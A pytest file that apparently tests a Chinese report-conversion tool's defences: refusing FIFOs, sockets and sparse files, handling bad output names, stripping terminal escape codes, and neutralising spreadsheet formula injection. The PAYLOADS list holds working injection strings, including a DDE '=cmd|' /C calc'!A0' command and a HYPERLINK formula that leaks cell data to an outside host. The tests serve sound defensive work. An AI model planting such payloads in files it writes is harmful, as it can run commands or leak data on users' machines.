"""Never hang, never crash, never leave half a file: special files as inputs, outputs the file system
refuses, a batch that one file must not sink, text a terminal would obey, and formula injection.

Every command runs as a child process under 1.5 GiB of address space and a wall-time bound
(fault_helpers.run); each refused run exits 2 with a Chinese message and no traceback, the inputs keep
their bytes, and nothing is left behind.  Disk full, read-only folders and kills are in test_faults.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from fault_helpers import assert_refused, assert_sane, leftovers, run, tree

from conftest import EXAMPLES
from workbook_tools import api
from workbook_tools.io.report_json import dump_bytes
from workbook_tools.io.tidy_csv import report_to_csv

SAMPLE = EXAMPLES / "sample-county-2024.json"
PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "'=already quoted"]
RISKY_START = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?[\d,.]+$")


@pytest.fixture(scope="module")
def sources(tmp_path_factory) -> dict[str, bytes]:
    report = api.load_report(SAMPLE)
    from workbook_tools.workbook.writer import fill_workbook

    return {"r.json": SAMPLE.read_bytes(), "r.csv": report_to_csv(report), "r.xlsx": fill_workbook(report)}


@pytest.fixture
def work(tmp_path, sources) -> Path:
    for name, data in sources.items():
        (tmp_path / name).write_bytes(data)
    return tmp_path


def refused_cleanly(r, folder: Path, before: dict, *words: str) -> None:
    assert_refused(r, *words)
    assert tree(folder) == before  # inputs unchanged, nothing written, no temporary
    assert leftovers(folder) == []


# ------------------------------------------------------------------------------------------ 5. special files


def make_fifo(folder: Path, name: str) -> Path:
    p = folder / name
    os.mkfifo(p)
    return p


def make_zero_link(folder: Path, name: str) -> Path:
    p = folder / name
    p.symlink_to("/dev/zero")
    return p


def make_loop(folder: Path, name: str) -> Path:
    p = folder / name
    (folder / f"other-{name}").symlink_to(name)
    p.symlink_to(f"other-{name}")
    return p


def make_sparse(folder: Path, name: str) -> Path:
    p = folder / name
    with open(p, "wb") as f:
        f.truncate(2 * 1024 ** 3)  # 2 GiB of holes: instant to make, fatal to read whole
    return p


def make_socket(folder: Path, name: str) -> Path:
    p = folder / name
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(p))
    s.close()
    return p


def make_folder(folder: Path, name: str) -> Path:
    p = folder / name
    p.mkdir()
    return p


SPECIAL = {"fifo": make_fifo, "dev-zero": make_zero_link, "loop": make_loop, "sparse": make_sparse,
           "socket": make_socket, "folder": make_folder}
COMMANDS = {  # command line for an input named `src`
    "validate": lambda src: ["validate", src],
    "convert": lambda src: ["convert", src, "-o", "out.json" if src.endswith(".csv") else "out.csv"],
    "report": lambda src: ["report", src, "-o", "out.html", "--allow-errors"],
    "fill": lambda src: ["fill", src, "-o", "out.xlsx"],
    "import": lambda src: ["import", src, "-o", "out.json"],
    "read": lambda src: ["read", src, "-o", "out.json"],
    "previous": lambda src: ["validate", "r.json", "--previous", src],
    "template": lambda src: ["template", "-o", "t.xlsx", "--year", "2025", "--previous", src],
    "config": lambda src: ["validate", "r.json", "--config", src],
}
CASES = [
    ("fifo", "x.json", "validate"), ("fifo", "x.csv", "convert"), ("fifo", "x.html", "import"), ("fifo", "x.pdf", "validate"),
    ("fifo", "x.docx", "report"), ("fifo", "x.xlsx", "read"), ("fifo", "x.json", "previous"), ("fifo", "x.json", "template"),
    ("fifo", "x.toml", "config"), ("dev-zero", "z.json", "validate"), ("dev-zero", "z.csv", "fill"),
    ("dev-zero", "z.txt", "import"), ("loop", "l.json", "validate"), ("loop", "l.xlsx", "convert"),
    ("sparse", "s.html", "validate"), ("sparse", "s.json", "convert"), ("sparse", "s.md", "import"),
    ("sparse", "s.pdf", "previous"), ("socket", "k.json", "validate"), ("folder", "d.json", "convert"),
]


@pytest.mark.parametrize("kind,name,cmd", CASES, ids=[f"{k}-{n}-{c}" for k, n, c in CASES])
def test_a_special_file_is_refused_before_any_reader(work, kind, name, cmd):
    SPECIAL[kind](work, name)
    before = tree(work)
    r = run(COMMANDS[cmd](name), work, wall=15)
    refused_cleanly(r, work, before, name)


def test_check_lists_special_files_as_rows_and_never_blocks(work):
    folder = work / "报送"
    folder.mkdir()
    (folder / "a.json").write_bytes(SAMPLE.read_bytes())
    for kind, name in (("fifo", "p.json"), ("dev-zero", "z.csv"), ("loop", "l.html"), ("sparse", "s.html"),
                       ("socket", "k.docx"), ("fifo", "q.xlsx")):
        SPECIAL[kind](folder, name)
    before = tree(work)
    r = run(["check", "报送", "-o", "汇总.json", "-j", "2"], work, wall=30)
    assert_sane(r)
    assert r.exit == 1, r.text[-2000:]
    rows = {f["file"]: f for f in json.loads((work / "汇总.json").read_text("utf-8"))["files"]}
    assert rows["a.json"]["status"] == "ok"
    for name in ("p.json", "z.csv", "l.html", "s.html", "k.docx", "q.xlsx"):
        assert rows[name]["status"] == "unreadable" and rows[name]["reason"], rows[name]
    assert "不是普通文件" in rows["p.json"]["reason"] and "过大" in rows["s.html"]["reason"]
    after = tree(work)
    assert after.pop("汇总.json") and after == before and leftovers(work) == []


def test_check_with_a_fifo_roster_is_refused(work):
    make_fifo(work, "名单.csv")
    before = tree(work)
    r = run(["check", "r.json", "--roster", "名单.csv", "-o", "s.csv"], work, wall=15)
    refused_cleanly(r, work, before, "名单.csv")


# ------------------------------------------------------------------------------------------ 6. outputs


def test_a_long_but_legal_output_name_is_written_whole(work):
    name = "报" * 80 + ".csv"  # 243 bytes: legal, but not once a temporary prefix is added to it
    r = run(["convert", "r.json", "-o", name], work)
    assert_sane(r)
    assert r.exit == 0 and (work / name).read_bytes().startswith(b"\xef\xbb\xbf")
    assert leftovers(work) == []


@pytest.mark.parametrize("args", [["convert", "r.json", "-o", "长" * 90 + ".csv"],
                                  ["report", "r.json", "-o", "长" * 90 + ".html"],
                                  ["check", "r.json", "-o", "长" * 84 + ".csv"]], ids=["convert", "report", "check-siblings"])
def test_an_output_name_the_file_system_cannot_hold_is_an_input_error(work, args):
    before = tree(work)
    r = run(args, work)
    refused_cleanly(r, work, before, "过长")


@pytest.mark.parametrize("args", [["convert", "r.json", "-o", "out.csv"], ["report", "r.json", "-o", "out.csv.html"],
                                  ["check", "r.json", "-o", "out.csv"], ["fill", "r.json", "-o", "out.xlsx", "--force"]],
                         ids=["convert", "report", "check", "fill-force"])
def test_an_output_that_is_a_folder_is_refused(work, args):
    (work / args[-1 if args[-1] != "--force" else -2]).mkdir()
    before = tree(work)
    r = run(args, work)
    refused_cleanly(r, work, before, "文件夹")


def test_a_pdf_sibling_linked_to_the_input_is_not_replaced(work):
    (work / "r.pdf").symlink_to("r.json")
    before = tree(work)
    r = run(["report", "r.json", "-o", "r.docx", "--pdf", "--force"], work)
    refused_cleanly(r, work, before, "r.pdf")
    assert (work / "r.pdf").is_symlink() and (work / "r.json").read_bytes() == SAMPLE.read_bytes()


def test_an_output_linked_to_the_input_is_refused_even_with_force(work):
    (work / "out.json").symlink_to("r.csv")
    before = tree(work)
    r = run(["convert", "r.csv", "-o", "out.json", "--force"], work)
    refused_cleanly(r, work, before, "out.json")


def test_outputs_into_new_folders_are_created_and_removed_again_on_refusal(work):
    r = run(["convert", "r.json", "-o", "a/b/out.csv"], work)
    assert r.exit == 0 and (work / "a/b/out.csv").is_file()
    before = tree(work)
    r = run(["check", "r.json", "-o", "c/d/" + "长" * 84 + ".csv"], work)
    refused_cleanly(r, work, before)


# ------------------------------------------------------------------------------------------ 7. the batch


def _summary_with(values):
    from workbook_tools.batch.summary import build
    from workbook_tools.batch.discover import Found
    from workbook_tools.batch.job import _row

    found = [Found(Path(f"f{i}.json"), f"f{i}.json") for i in range(len(values))]
    rows = [_row(str(f.path), status="errors", agency=f"单位{i}", errors=1,
                 figures={"new": v, "carried_in": v, "closed": None, "carried_out": 1, "review": v, "litigation": 0},
                 findings=[{"rule": "A03", "severity": "error", "title": "t", "table": "表三", "block": None, "row": "r",
                            "col": "c", "where": None, "cells": [], "expected": v, "actual": 0, "message": "m"}])
            for i, (f, v) in enumerate(zip(found, values))]
    return build(found, rows, None, {}, "zh", inputs=["x"])


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_every_summary_writer_takes_numbers_no_writer_can_hold(fmt):
    from workbook_tools.batch import write

    values = [Decimal("1e400"), Decimal("NaN"), Decimal("-Infinity"), 10 ** 400, Decimal("-1e-400"), 12]
    summary = _summary_with(values)
    if fmt == "xlsx":
        data = write.to_xlsx(summary)
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            assert "1E+400" in z.read("xl/sharedStrings.xml").decode()
    elif fmt == "csv":
        files = write.to_csv(summary)
        text = files[0].decode("utf-8-sig")
        assert "1E+400" in text and "NaN" in text and "'-Infinity" in text
    else:
        text = json.dumps(write.to_json(summary), ensure_ascii=False, allow_nan=False)
        assert json.loads(text)["files"][1]["figures"]["new"] == "NaN"


def test_check_xlsx_with_extreme_figures_writes_its_workbook(work):
    report = json.loads(SAMPLE.read_text("utf-8"))
    report["cells"]["T3/R1/C1"] = 10 ** 39  # the largest figure the readers take, times the sums below
    report["cells"]["T3/R2/C1"] = 10 ** 39
    folder = work / "报送"
    folder.mkdir()
    (folder / "big.json").write_text(json.dumps(report, ensure_ascii=False), "utf-8")
    r = run(["check", "报送", "-o", "s.xlsx"], work)
    assert_sane(r)
    assert r.exit in (0, 1) and zipfile.is_zipfile(work / "s.xlsx")


# ------------------------------------------------------------------------------------------ 8. terminal


ESCAPES = "\x1b]0;owned\x07\x1b[31m红\x1b[0m\x9b2J\r覆盖"


def _hostile_names(work: Path) -> str:
    report = json.loads(SAMPLE.read_text("utf-8"))
    report["meta"]["agency"] = "某局" + ESCAPES
    name = "报告\x1b[2J\x07.json"
    (work / name).write_text(json.dumps(report, ensure_ascii=False), "utf-8")
    return name


@pytest.mark.parametrize("args", [["validate", "{n}"], ["validate", "{n}", "--format", "json"],
                                  ["convert", "{n}", "-o", "o\x1b[1m.csv"],
                                  ["check", "{n}"], ["check", "{n}", "--format", "json"],
                                  ["merge", "{n}", "--agency", "汇总\x1b[5m", "-o", "m.json"],
                                  ["report", "{n}", "-o", "o.md", "--allow-errors"]],
                         ids=["validate", "validate-json", "convert", "check", "check-json", "merge", "report"])
def test_nothing_printed_carries_terminal_controls(work, args):
    name = _hostile_names(work)
    r = run([a.format(n=name) for a in args], work)
    assert_sane(r)
    assert r.exit in (0, 1), r.text[-2000:]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", r.text), repr(r.text[-500:])
    if "json" in args:
        json.loads(r.out)  # escapes keep the document valid


def test_a_csv_with_bare_cr_line_ends_is_read(work):
    lf = (work / "r.csv").read_bytes().replace(b"\r\n", b"\n")
    (work / "mac.csv").write_bytes(lf.replace(b"\n", b"\r"))
    r = run(["convert", "mac.csv", "-o", "mac.json"], work)
    assert_sane(r)
    assert r.exit == 0, r.text[-1000:]
    expected = json.loads(dump_bytes(api.load_report(work / "r.csv")))["cells"]
    assert json.loads((work / "mac.json").read_text("utf-8"))["cells"] == expected


# ------------------------------------------------------------------------------------------ 9. formulas


def _payload_report(work: Path) -> Path:
    report = json.loads(SAMPLE.read_text("utf-8"))
    report["meta"]["agency"] = PAYLOADS[0]
    report["meta"].setdefault("extra", {})
    for p in PAYLOADS:
        report["meta"]["extra"][p] = p.strip()  # in the key and in the value (the reader strips META values)
    cells = [k for k in report["cells"] if k.startswith("T3/")][: len(PAYLOADS)]
    for key, p in zip(cells, PAYLOADS):
        report["cells"][key] = {"raw": p}
    money = next(k for k in report["cells"] if k.startswith("T2/") and "amount" in k.lower()) if any(
        k.startswith("T2/") and "amount" in k.lower() for k in report["cells"]) else None
    if money:
        report["cells"][money] = {"raw": "12", "value": 12, "unit": "=cmd|' /C calc'!A0"}
    path = work / "p.json"
    path.write_text(json.dumps(report, ensure_ascii=False), "utf-8")
    return path


def _csv_fields(data: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]


def assert_neutral(fields: list[str]) -> None:
    bad = [f for f in fields if RISKY_START.match(f) and not PLAIN_NUMBER.match(f)]
    assert bad == [], bad[:5]


def test_tidy_csv_neutralises_every_field_and_reads_back_as_written(work):
    src = _payload_report(work)
    r = run(["convert", "p.json", "-o", "p.csv"], work)
    assert r.exit == 0, r.text[-1000:]
    assert_neutral(_csv_fields((work / "p.csv").read_bytes()))
    back = api.load_report(work / "p.csv")
    orig = api.load_report(src)
    assert back.meta.extra == orig.meta.extra and back.meta.agency == orig.meta.agency
    assert {k: c.raw for k, c in back.cells.items()} == {k: c.raw for k, c in orig.cells.items()}
    assert "'=cmd|' /C calc'!A0" in _csv_fields((work / "p.csv").read_bytes())  # the unit, as text


def test_check_summary_csv_and_xlsx_hold_no_formula(work):
    _payload_report(work)
    (work / "报送").mkdir()
    os.replace(work / "p.json", work / "报送" / "=cmd|' calc'!A0.json")
    r = run(["check", "报送", "-o", "s.csv"], work)
    assert_sane(r)
    for name in ("s.csv", "s-问题明细.csv"):
        assert_neutral(_csv_fields((work / name).read_bytes()))
    r = run(["check", "报送", "-o", "s.xlsx"], work)
    assert_sane(r)
    with zipfile.ZipFile(work / "s.xlsx") as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert all("<f>" not in s for s in sheets)


def test_filled_workbook_writes_payloads_as_text_never_as_formulas(work):
    _payload_report(work)
    r = run(["fill", "p.json", "-o", "p.xlsx"], work)
    assert r.exit == 0, r.text[-1000:]
    with zipfile.ZipFile(work / "p.xlsx") as z:
        formulas = " ".join(re.findall(r"<f>(.*?)</f>", " ".join(z.read(n).decode() for n in z.namelist()
                                                                  if n.startswith("xl/worksheets/"))))
        strings = z.read("xl/sharedStrings.xml").decode()
    assert "HYPERLINK" not in formulas and "cmd|" not in formulas and "HYPERLINK" in strings


def test_merge_output_is_neutralised(work):
    report = json.loads(SAMPLE.read_text("utf-8"))
    report["meta"]["agency"] = PAYLOADS[1]
    (work / "q.json").write_text(json.dumps(report, ensure_ascii=False), "utf-8")
    r = run(["merge", "q.json", "r.json", "--agency", PAYLOADS[0], "-o", "m.csv"], work)
    assert_sane(r)
    assert r.exit in (0, 1), r.text[-1000:]
    fields = _csv_fields((work / "m.csv").read_bytes())
    assert_neutral(fields)
    assert any("cmd|" in f for f in fields)  # the names are there, as text


# ------------------------------------------------------------------------------------------------ long CSV files

def _unmatched_csv(path: Path, lines: int) -> Path:
    rows = ["table,block,row_code,row_label,col_code,col_label,value,raw,unit,source"]
    rows += [f"T3,,,并无此行{i},,自然人,1,1,," for i in range(lines)]
    path.write_text("\n".join(rows), encoding="utf-8")
    return path


def test_a_csv_longer_than_any_report_is_refused_at_once(tmp_path):
    src = _unmatched_csv(tmp_path / "long.csv", 200_000)
    before = src.read_bytes()
    r = run(["validate", src.name], tmp_path, wall=10)
    assert_refused(r, "20000")
    assert src.read_bytes() == before and leftovers(tmp_path) == []


def test_many_lines_that_match_no_label_stay_fast(tmp_path):
    # label matching rules candidates out before computing distances: 19,000 unknown labels in seconds
    src = _unmatched_csv(tmp_path / "unknown.csv", 19_000)
    r = run(["validate", src.name], tmp_path, wall=15)
    assert_refused(r, "没有一行能对应")
